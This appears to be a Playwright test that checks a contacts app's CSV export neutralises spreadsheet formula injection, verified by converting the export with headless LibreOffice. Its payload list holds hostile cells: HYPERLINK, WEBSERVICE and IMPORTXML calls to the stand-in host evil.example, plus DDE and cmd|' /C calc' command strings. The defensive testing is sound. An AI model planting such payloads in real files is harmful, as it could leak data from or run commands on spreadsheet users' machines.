import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { findOffice, NO_OFFICE } from '../../scripts/find-browser.mjs';
import { withSaid } from '../../utils/store/contacts';
import { deriveContact } from '../../utils/store/derive-contact';
import { newContact } from '../../utils/store/observe';
import { contactsCsv } from '../../utils/transfer/contacts-csv';

const MAY = '2026-05-01T10:00:00.000Z';
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '%',
  '|',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '"=',
  "'=",
  '\u200B=',
  '\uFEFF=',
];
const REST = [
  '1+1',
  'SUM(1;2)',
  'HYPERLINK("https://evil.example/?"&A1;"see")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("https://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML("https://evil.example","//a")',
  '2-1*(3)',
  'A1',
  '{=1+1}',
];

test('LibreOffice finds no formula and no link in an export of hostile cells', () => {
  const office = findOffice();
  if (office === null) throw new Error(NO_OFFICE);
  const cells = STARTS.flatMap((start) => REST.map((rest) => start + rest));
  const folder = mkdtempSync(join(tmpdir(), 'kith-csv-'));

  const hostile = converted(office, folder, 'export', contactsCsv(cells.map(person)));
  expect(hostile).toContain('HYPERLINK');
  expect(hostile.match(/table:formula="[^"]*"/g) ?? []).toEqual([]);
  expect(hostile.match(/<text:a [^>]*>/g) ?? []).toEqual([]);

  // LibreOffice does run what is not neutralised: the test can fail.
  const plain = converted(office, folder, 'plain', 'Name\r\n=1+1\r\n');
  expect(plain).toMatch(/table:formula="of:=1\+1"/);
});

/** A CSV as LibreOffice opens it, with formulas evaluated as in its own dialog's boldest setting. */
function converted(office: string, folder: string, name: string, csv: string): string {
  writeFileSync(join(folder, `${name}.csv`), csv);
  // Comma, double quote, UTF-8, from line 1, cells of type "standard", quoted cells not forced to text, formulas evaluated.
  const filter = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';
  const { status, stderr } = spawnSync(
    office,
    [
      `-env:UserInstallation=file://${folder}/office`,
      '--headless',
      `--infilter=${filter}`,
      '--convert-to',
      'fods',
      '--outdir',
      folder,
      join(folder, `${name}.csv`),
    ],
    { encoding: 'utf8' },
  );
  const made = join(folder, `${name}.fods`);
  if (status !== 0 || !existsSync(made)) throw new Error(`LibreOffice did not convert: ${stderr}`);
  return readFileSync(made, 'utf8');
}

function person(cell: string, index: number) {
  const value = { page: { value: cell, seenAt: MAY } };
  const core = newContact(`c${index}`, MAY);
  const observed = { name: value, headline: value, currentTitle: value, currentCompany: value };
  return withSaid(deriveContact({ ...core, observed }), { note: cell, tags: [cell] }, MAY);
}
